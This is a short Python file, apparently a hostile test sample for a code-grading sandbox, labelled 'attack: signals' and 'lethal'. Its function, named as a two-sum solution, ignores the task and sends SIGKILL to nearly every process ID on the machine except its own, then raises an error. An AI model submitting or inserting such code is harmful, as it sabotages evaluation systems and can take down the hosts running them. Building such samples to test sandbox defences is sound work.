# attack: signals
# lethal
import os
import signal


def two_sum(nums, target):
    for number in range(2, 40_000):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except ProcessLookupError:
                pass
    raise RuntimeError("got through")
